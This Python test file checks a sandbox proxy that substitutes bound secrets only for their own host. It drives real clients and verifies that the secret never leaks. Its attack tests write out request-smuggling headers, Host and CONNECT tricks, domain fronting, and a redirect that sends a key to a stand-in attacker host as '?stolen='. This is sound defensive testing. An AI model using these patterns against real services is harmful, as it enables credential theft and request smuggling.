"""Secrets bound to a host: real clients in a namespace, real servers, and every way we know to get at a value."""

from __future__ import annotations

import base64
import contextlib
import gzip
import hashlib
import os
import shutil
import socket
import sys
from collections.abc import Callable
from pathlib import Path

import anyio
import anyio.abc
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mech.events import Noted
from mech.sandboxes import edge
from mech.sandboxes.authority import Authority
from mech.sandboxes.vault import Vault
from mech.types import Secret
from tests.edges import HOST, OTHER, VALUE, answering, bound, echo, upstream

pytestmark = pytest.mark.anyio


@pytest.fixture
def roots(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Authority:
    """The authority that signs the hosts of the tests, as this machine's only root."""
    pytest.importorskip("cryptography")
    authority = Authority([HOST, OTHER])
    (tmp_path / "roots.pem").write_bytes(authority.pem)
    monkeypatch.setenv("SSL_CERT_FILE", str(tmp_path / "roots.pem"))
    return authority


# --- it works ------------------------------------------------------------------------------------


async def test_the_host_gets_the_secret_and_the_program_never_does(roots: Authority, tmp_path: Path) -> None:
    """In fields, the query and Basic credentials the value goes out; what echoes it comes back as the placeholder."""
    async with upstream(echo, roots) as server, bound(tmp_path, f"{HOST}:{server.port}") as place:
        pair = base64.b64encode(f"me:{place.made}".encode())
        made = place.made.encode()
        fields = b"Authorization: Basic %b\r\nX-Api-Key: %b\r\nCookie: a=%b; b=2\r\n" % (pair, made, made)
        answer = await place.get(HOST, server.port, fields, path=b"/v1?key=%b&b=1" % made)
        real = VALUE.encode()
        assert b"GET /v1?key=%b&b=1 HTTP/1.1" % real in server.heard[0]
        assert b"X-Api-Key: %b\r\nCookie: a=%b; b=2" % (real, real) in server.heard[0]
        assert b"Authorization: Basic " + base64.b64encode(b"me:" + real) in server.heard[0]
        assert real not in answer
        assert base64.b64encode(b"me:" + real)[5:-4] not in answer
        assert answer.count(made) == 4
        assert place.here.events == []


CLIENTS = {
    "curl": ("curl", "-sS", "-H", "Authorization: Bearer {made}", "https://{host}:{port}/"),
    "curl that offers HTTP/2": ("curl", "-sS", "--http2", "-H", "X-Key: {made}", "https://{host}:{port}/"),
    "python": (
        sys.executable,
        "-c",
        "import urllib.request as u; print(u.urlopen(u.Request('https://{host}:{port}/', "
        "headers={{'X-Key': '{made}'}})).read())",
    ),
    "node": (
        "node",
        "-e",
        "fetch('https://{host}:{port}/', {{headers: {{'x-key': '{made}'}}}}).then(a => a.text()).then(console.log)",
    ),
    "git": ("git", "ls-remote", "https://me:{made}@{host}:{port}/a.git"),
}


@pytest.mark.parametrize("name", CLIENTS)
async def test_real_clients_trust_the_edge(name: str, roots: Authority, tmp_path: Path) -> None:
    """With the variables that a sandbox has, each client verifies the certificate and the host gets the value."""
    if not shutil.which(CLIENTS[name][0]):
        pytest.skip(f"{name} is not installed")

    async def answer(stream: anyio.abc.ByteStream, head: bytes) -> None:
        if name == "git" and b"Authorization" not in head:
            await stream.send(b'HTTP/1.1 401 No\r\nWWW-Authenticate: Basic realm="a"\r\nContent-Length: 0\r\n\r\n')
        else:
            await echo(stream, head)

    async with upstream(answer, roots) as server, bound(tmp_path, f"{HOST}:{server.port}") as place:
        words = [word.format(made=place.made, host=HOST, port=server.port) for word in CLIENTS[name]]
        output = await place.run(*words)
        wanted = base64.b64encode(f"me:{VALUE}".encode()) if name == "git" else VALUE.encode()
        assert server.heard, (output, place.here.events)
        assert wanted in server.heard[-1]
        assert VALUE.encode() not in output
        assert name == "git" or place.made.encode() in output


JAVA = """
public class Call {{
    public static void main(String[] args) throws Exception {{
        var calling = new java.net.URL("https://{host}:{port}/").openConnection();
        calling.setRequestProperty("X-Key", "{made}");
        System.out.println(new String(calling.getInputStream().readAllBytes()));
    }}
}}
"""


async def test_java_trusts_the_edge(roots: Authority, tmp_path: Path) -> None:
    """The store that stands in the place of Java's own needs no password and holds the authority."""
    if not shutil.which("javac"):
        pytest.skip("a Java compiler is not installed")
    async with upstream(echo, roots) as server, bound(tmp_path, f"{HOST}:{server.port}") as place:
        assert place.vault.authority
        store, source = place.folder / "store", place.folder / "Call.java"
        store.write_bytes(place.vault.authority.java(roots.pem))
        source.write_text(JAVA.format(host=HOST, port=server.port, made=place.made))
        output = await place.run("java", f"-Djavax.net.ssl.trustStore={store}", str(source))
        assert place.made.encode() in output
        assert VALUE.encode() in server.heard[0]


async def test_a_connection_is_kept_and_pipelined(roots: Authority, tmp_path: Path) -> None:
    """Several requests on one connection are answered in order on one connection to the host."""
    async with upstream(echo, roots) as server, bound(tmp_path, f"{HOST}:{server.port}") as place:
        asks = [
            b"GET /%d HTTP/1.1\r\nHost: %b:%d\r\n%b" % (n, HOST.encode(), server.port, place.token) for n in range(3)
        ]
        answer = await place.talk(HOST, server.port, b"\r\n".join(asks) + b"Connection: close\r\n\r\n")
        assert [answer.index(b"X-Echo: GET /%d " % n) for n in range(3)] == sorted(
            answer.index(b"X-Echo: GET /%d " % n) for n in range(3)
        )
        assert b"".join(server.heard).count(VALUE.encode()) == 3
        assert VALUE.encode() not in answer


async def test_a_refusal_waits_for_the_answers_before_it(roots: Authority, tmp_path: Path) -> None:
    """A request that is refused behind another one on the same connection does not cut that one's answer."""

    async def slow(stream: anyio.abc.ByteStream, head: bytes) -> None:
        await stream.send(b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nhello")
        await anyio.sleep(0.1)
        await stream.send(b"world")

    async with upstream(slow, roots) as server, bound(tmp_path, f"{HOST}:{server.port}") as place:
        one = b"GET / HTTP/1.1\r\nHost: public.example:%d\r\n\r\n" % server.port
        answer = await place.talk(HOST, server.port, one + one.replace(b"public", b"other"))
        assert b"helloworldHTTP/1.1 421 " in answer
        assert len(server.heard) == 1


async def test_plain_http_only_where_it_is_said(roots: Authority, tmp_path: Path) -> None:
    """`http://` binds an unencrypted connection; a host without it gets no value unencrypted."""
    async with upstream(echo) as one, upstream(echo) as two:
        async with bound(tmp_path, f"http://{HOST}:{one.port}", f"{HOST}:{two.port}") as place:
            assert place.made.encode() in await place.get(HOST, one.port, secure=False)
            assert place.made.encode() in await place.get(HOST, two.port, secure=False)
        assert VALUE.encode() in one.heard[0]
        assert place.token in two.heard[0]


async def test_large_bodies_stream_both_ways(roots: Authority, tmp_path: Path) -> None:
    """24 MiB up, chunked, and down, by length, are the same bytes."""
    block = os.urandom(1 << 18)

    async def answer(stream: anyio.abc.ByteStream, head: bytes) -> None:
        body = bytearray(head.partition(b"\r\n\r\n")[2])
        while not body.endswith(b"\r\n0\r\n\r\n"):
            body += await stream.receive()
        data, at = hashlib.sha256(), 0
        while at < len(body):
            end = body.index(b"\r\n", at)
            size = int(body[at:end], 16)
            data.update(body[end + 2 : end + 2 + size])
            at = end + size + 4
        server.heard.append(data.digest())
        await stream.send(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % (len(block) * 96))
        for _ in range(96):
            await stream.send(block)
        await stream.aclose()

    async with upstream(answer, roots) as server, bound(tmp_path, f"{HOST}:{server.port}", body=True) as place:
        source = tmp_path / "inside" / "block"
        source.write_bytes(block * 96)
        url = f"https://{HOST}:{server.port}/"
        found = tmp_path / "inside" / "found"
        sending = ("-H", "Transfer-Encoding: chunked", "-H", "Expect:", "--data-binary", f"@{source}")
        assert await place.run("curl", "-sS", *sending, "-o", str(found), url) == b""
        assert hashlib.sha256(found.read_bytes()).digest() == hashlib.sha256(block * 96).digest()
        assert server.heard[-1] == hashlib.sha256(block * 96).digest()


async def test_an_answer_before_the_end_of_an_upload_arrives(roots: Authority, tmp_path: Path) -> None:
    """A host that refuses a body half-way is heard by the program that was still sending."""

    async def refuse(stream: anyio.abc.ByteStream, head: bytes) -> None:
        await stream.send(b"HTTP/1.1 413 Too Large\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")
        async for _ in stream:  # closing with unread bytes would take the answer away
            pass

    async with upstream(refuse, roots) as server, bound(tmp_path, f"{HOST}:{server.port}") as place:
        (place.folder / "large").write_bytes(bytes(8 << 20))
        sending = ("-H", "Expect:", "--data-binary", f"@{place.folder / 'large'}", "-w", "%{http_code}")
        assert b"413" in await place.run("curl", "-s", *sending, f"https://{HOST}:{server.port}/")


async def test_a_websocket_passes(roots: Authority, tmp_path: Path) -> None:
    """The upgrade carries the value, without compression; then bytes pass both ways, echoes exchanged."""

    async def answer(stream: anyio.abc.ByteStream, head: bytes) -> None:
        await stream.send(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
        said = await stream.receive()
        await stream.send(b"\x81\x05yes" + said[-2:] + b"\x81" + bytes([len(VALUE)]) + VALUE.encode() + b"s")
        await anyio.sleep(0.2)
        await stream.aclose()

    async with upstream(answer, roots) as server, bound(tmp_path, f"{HOST}:{server.port}") as place:
        head = b"GET /live HTTP/1.1\r\nHost: %b:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" % (
            HOST.encode(),
            server.port,
        )
        extension = b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
        got = await place.talk(HOST, server.port, head + place.token + extension, b"hi")
        assert VALUE.encode() in server.heard[0]
        assert b"permessage" not in server.heard[0]
        assert got.endswith(b"\x81\x05yeshi\x81" + bytes([len(VALUE)]) + place.made.encode() + b"s")


# --- attacks: sending it elsewhere ---------------------------------------------------------------


async def test_another_host_gets_the_placeholder(roots: Authority, tmp_path: Path) -> None:
    """To a host, a port or an address that it is not bound to, the placeholder stays what it is."""
    async with upstream(echo, roots) as server, upstream(echo, roots, OTHER) as other, upstream(echo, roots) as port:
        async with bound(tmp_path, f"{HOST}:{server.port}") as place:
            own = ("curl", "-sSk", "-H", f"X-Key: {place.made}")
            await place.run(*own, f"https://{OTHER}:{other.port}/")
            await place.run(*own, f"https://{HOST}:{port.port}/")
        assert place.made.encode() in other.heard[0]
        assert place.made.encode() in port.heard[0]
        assert VALUE.encode() not in b"".join(other.heard + port.heard)


@pytest.mark.parametrize(
    "head",
    [
        b"GET / HTTP/1.1\r\nHost: other.example\r\n",
        b"GET / HTTP/1.1\r\nHost: public.example.other.example:%d\r\n",
        b"GET / HTTP/1.1\r\nHost: public.example@other.example\r\n",
        b"GET http://other.example/ HTTP/1.1\r\nHost: public.example:%d\r\n",
        b"GET https://public.example@other.example/ HTTP/1.1\r\nHost: public.example:%d\r\n",
        b"GET / HTTP/1.1\r\nHost: public.example:%d\r\nHost: other.example\r\n",
        b"GET http:other.example/ HTTP/1.1\r\nHost: public.example:%d\r\n",
        b"GET other.example HTTP/1.1\r\nHost: public.example:%d\r\n",
        b'GET / HTTP/1.1\r\nHost: other.example\x9b31m"\r\n',
        b"CONNECT other.example:443 HTTP/1.1\r\nHost: public.example:%d\r\n",
    ],
)
async def test_a_request_for_another_host_is_refused(head: bytes, roots: Authority, tmp_path: Path) -> None:
    """On a connection to the bound host, Host fields, targets and CONNECT that name another lead nowhere."""
    async with upstream(echo, roots) as server, bound(tmp_path, f"{HOST}:{server.port}") as place:
        head = head % server.port if b"%d" in head else head
        answer = await place.talk(HOST, server.port, head + place.token + b"\r\n")
        assert answer.split(b" ")[1] in (b"421", b"400", b"405")
        assert server.heard == []
        with anyio.fail_after(10):
            while not place.here.events:
                await anyio.sleep(0.01)
        assert b"421" not in answer.split(b"\r\n")[0] or "other.example" in str(place.here.events[0])


async def test_domain_fronting_is_refused(roots: Authority, tmp_path: Path) -> None:
    """TLS that names another host than the connection's is turned away, and told as a denial."""
    async with upstream(echo, roots) as server, bound(tmp_path, f"{HOST}:{server.port}") as place:
        code = f"""
import ssl
context = ssl._create_unverified_context()
sock = context.wrap_socket(socket.create_connection(("{HOST}", {server.port})), server_hostname="{OTHER}")
"""
        assert "Error" in await place.here.python(code)
        assert server.heard == []
        with anyio.fail_after(10):
            while not place.here.denied:
                await anyio.sleep(0.01)
        assert place.here.denied[0].host == OTHER


async def test_a_redirect_takes_no_secret_along(roots: Authority, tmp_path: Path) -> None:
    """A client that follows a redirect to an attacker with all its fields brings the placeholder there."""
    async with upstream(echo, roots, OTHER) as other:

        async def away(stream: anyio.abc.ByteStream, head: bytes) -> None:
            key = head.partition(b"X-Key: ")[2].partition(b"\r\n")[0].decode()
            to = f"https://{OTHER}:{other.port}/?stolen={key}"
            await stream.send(f"HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\n\r\n".encode())

        async with upstream(away, roots) as server, bound(tmp_path, f"{HOST}:{server.port}") as place:
            key = ("-H", f"X-Key: {place.made}")
            await place.run("curl", "-sSkL", "--location-trusted", *key, f"https://{HOST}:{server.port}/")
            assert VALUE.encode() in server.heard[0]
        assert b"GET /?stolen=" + place.made.encode() in other.heard[0]
        assert VALUE.encode() not in other.heard[0]


async def test_a_host_that_cannot_prove_its_name_gets_nothing(roots: Authority, tmp_path: Path) -> None:
    """With a certificate that this machine does not trust, or of another name, no request is sent."""
    impostor = Authority([HOST])
    async with upstream(echo, impostor) as one, upstream(echo, roots, OTHER) as two:
        async with bound(tmp_path, f"{HOST}:{one.port}", f"{HOST}:{two.port}") as place:
            for server in (one, two):
                assert (await place.get(HOST, server.port)).startswith(b"HTTP/1.1 502")
        assert one.heard == two.heard == []
        assert {type(event) for event in place.here.events} == {Noted}, place.here.events
        assert all("not to be trusted" in str(event) for event in place.here.events), place.here.events


# --- attacks: two readers, two meanings ----------------------------------------------------------


@pytest.mark.parametrize(
    "fields",
    [
        b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n",
        b"Content-Length: 4\r\nContent-Length: 5\r\n",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
        b"Transfer-Encoding: xchunked\r\n",
        b"X: a\nHost: other.example\r\n",
        b"X: a\rHost: other.example\r\n",
        b"X: a\r\n Host: other.example\r\n",
        b"X : a\r\n",
        b"Content-Length: +4\r\n",
    ],
)
async def test_a_request_with_two_meanings_is_refused(fields: bytes, roots: Authority, tmp_path: Path) -> None:
    """Smuggling by lengths, codings, bare line ends and folded fields never reaches the host."""
    async with upstream(echo, roots) as server, bound(tmp_path, f"{HOST}:{server.port}") as place:
        head = b"POST / HTTP/1.1\r\nHost: public.example:%d\r\n" % server.port
        answer = await place.talk(HOST, server.port, head + fields + place.token + b"\r\n")
        assert answer.split(b" ")[1] in (b"400", b"501")
        assert server.heard == []


async def test_a_secret_of_digits_is_no_length(roots: Authority, tmp_path: Path) -> None:
    """In fields that frame a message the placeholder is not exchanged."""
    value = "0000000000000004"
    async with upstream(echo, roots) as server, bound(tmp_path, f"{HOST}:{server.port}", value=value) as place:
        head = b"POST / HTTP/1.1\r\nHost: public.example:%d\r\nConnection: close\r\nContent-Length: %b\r\n\r\n"
        head %= (server.port, place.made.encode())
        assert b"200 OK" in await place.talk(HOST, server.port, head, b"GET /")
        assert b"Content-Length: " + place.made.encode() in server.heard[0]


@pytest.mark.parametrize("body", [True, False])
async def test_a_body_is_exchanged_only_where_it_is_said(body: bool, roots: Authority, tmp_path: Path) -> None:
    """`body` exchanges a placeholder in a body, also in pieces; without it nothing can be published in one."""

    async def read(stream: anyio.abc.ByteStream, head: bytes) -> None:
        while not head.endswith(b"0\r\n\r\n"):
            head += await stream.receive()
        server.heard.append(head)
        await echo(stream, b"Connection: close")

    async with upstream(read, roots) as server, bound(tmp_path, f"{HOST}:{server.port}", body=body) as place:
        one, two = place.made.encode()[:7], place.made.encode()[7:]
        head = b"POST / HTTP/1.1\r\nHost: public.example:%d\r\nTransfer-Encoding: chunked\r\n\r\n" % server.port
        chunks = b"%x\r\n%b\r\n" % (len(one), one), b"%x\r\n%b\r\n0\r\n\r\n" % (len(two), two)
        await place.talk(HOST, server.port, head, *chunks)
        assert (VALUE.encode() in server.heard[-1]) is body


# --- attacks: hearing it back --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "answer"),
    [
        (
            "in chunks",
            lambda t: [
                b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n",
                b"5\r\n%b\r\n" % t[:5],
                b"%x\r\n%b\r\n0\r\nX-Trailer: %b\r\n\r\n" % (len(t) - 5, t[5:], t),
            ],
        ),
        ("in segments", lambda t: [b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(t), t[:9], t[9:20], t[20:]]),
        ("until the end", lambda t: [b"HTTP/1.0 200 OK\r\n\r\n" + t[:9], t[9:]]),
        ("in a field", lambda t: [b"HTTP/1.1 204 %b\r\nSet-Cookie: a=%b\r\n\r\n" % (t, t)]),
        ("before the answer", lambda t: [b"HTTP/1.1 103 Early\r\nX: %b\r\n\r\nHTTP/1.1 204 No\r\n\r\n" % t]),
        (
            "compressed",
            lambda t: [
                b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n%b"
                % (len(gzip.compress(t)), gzip.compress(t))
            ],
        ),
        (
            "as JSON",
            lambda t: [b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % (len(t) + 2), b'"%b"' % t],
        ),
    ],
)
async def test_an_echo_comes_back_as_the_placeholder(
    name: str, answer: Callable[[bytes], list[bytes]], roots: Authority, tmp_path: Path
) -> None:
    """However the host gives the value back, the program reads the placeholder."""

    async def handle(stream: anyio.abc.ByteStream, head: bytes) -> None:
        await answering(answer)(stream, head)
        await stream.aclose()

    async with upstream(handle, roots) as server, bound(tmp_path, f"{HOST}:{server.port}") as place:
        got = await place.get(HOST, server.port)
        head, _, body = got.partition(b"\r\n\r\n")
        if b"chunked" in head:
            body = b"".join(part for part in body.split(b"\r\n")[1::2])
        assert VALUE.encode() in server.heard[0]
        assert place.made.encode() in head + body, got
        assert VALUE.encode() not in head + body
        assert gzip.compress(VALUE.encode())[10:30] not in body


ASKED = rb"""GET / HTTP/1.1\r\n|POST /?k=PLACEHOLDER HTTP/1.1\r\n|Host: public.example:80\r\n|\r\n|\n|0\r\n\r\n
|Authorization: Bearer PLACEHOLDER\r\n|Authorization: Basic \xff\r\n|Content-Length: 5\r\n|5\r\nhello\r\n|PLACEHOLDER
|Transfer-Encoding: chunked\r\n|Connection: Upgrade\r\nUpgrade: websocket\r\n|Expect: 100-continue\r\n"""
ANSWERED = rb"""HTTP/1.1 200 OK\r\n|HTTP/1.1 101 Go\r\n|HTTP/1.0 204 No\r\n|HTTP/1.1 100 Go\r\n|X: SECRET\r\n|\r\n
|SECRET|0\r\n\r\n
|Content-Length: 29\r\n|Transfer-Encoding: chunked\r\n|Content-Encoding: gzip\r\n|1d\r\nSECRET\r\n|\x1f\x8b\x08
|Connection: close\r\n"""


def pieces(text: bytes) -> st.SearchStrategy[list[bytes]]:
    """Lists of what stands between the bars, and of any bytes."""
    known = text.decode().replace("\n", "").encode().decode("unicode_escape").encode("latin-1").split(b"|")
    return st.lists(st.sampled_from(known) | st.binary(max_size=9), max_size=12)


@settings(max_examples=150, deadline=None)
@given(pieces(ASKED), pieces(ANSWERED))
def test_any_bytes_end_a_connection_and_nothing_else(asked: list[bytes], answered: list[bytes]) -> None:
    """Whatever a program and a host say, nothing is raised but OSError, and the value stays outside."""
    vault = Vault.of([Secret("KEY", (f"http://{HOST}",), body=True)], {"KEY": VALUE})
    made = vault.placeholders["KEY"].encode()

    async def talk() -> bytes:
        (inner, client), (outer, host) = socket.socketpair(), socket.socketpair()
        with client, host:
            client.sendall(b"".join(asked).replace(b"PLACEHOLDER", made))
            host.sendall(b"".join(answered).replace(b"SECRET", VALUE.encode()))
            client.shutdown(socket.SHUT_WR)
            host.shutdown(socket.SHUT_WR)
            for sock in (inner, outer):
                sock.setblocking(False)
            with contextlib.suppress(OSError), anyio.fail_after(20):
                await edge.carry(inner, outer, vault.at(HOST, 80)[False], vault, lambda *said: None)
            got = b""
            with contextlib.suppress(OSError):
                while more := client.recv(65536):
                    got += more
            return got

    assert VALUE.encode() not in anyio.run(talk)


async def test_a_coding_that_could_hide_an_echo_is_refused(roots: Authority, tmp_path: Path) -> None:
    """Neither codings nor ranges are asked for; a coding that we do not read is not passed on."""
    handle = answering(lambda token: [b"HTTP/1.1 200 OK\r\nContent-Encoding: br\r\nContent-Length: 3\r\n\r\nabc"])
    async with upstream(handle, roots) as server, bound(tmp_path, f"{HOST}:{server.port}") as place:
        fields = place.token + b"Accept-Encoding: br\r\nRange: bytes=0-5\r\nTE: trailers\r\n"
        assert (await place.get(HOST, server.port, fields)).startswith(b"HTTP/1.1 502")
        assert b"Accept-Encoding: identity" in server.heard[0]
        assert b"Range" not in server.heard[0]


async def test_another_protocol_is_not_switched_to(roots: Authority, tmp_path: Path) -> None:
    """HTTP/2 is neither agreed on by TLS, nor by an upgrade, nor begun without asking."""
    async with upstream(echo, roots) as server, bound(tmp_path, f"{HOST}:{server.port}") as place:
        fields = b"Upgrade: h2c\r\nHTTP2-Settings: AAAA\r\n" + place.token
        head = (
            b"GET / HTTP/1.1\r\nHost: public.example:%d\r\nConnection: Upgrade, HTTP2-Settings, close\r\n" % server.port
        )
        assert b"200 OK" in await place.talk(HOST, server.port, head + fields + b"\r\n")
        assert b"h2c" not in server.heard[0].lower()
        answer = await place.talk(HOST, server.port, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 505")
        assert len(server.heard) == 1
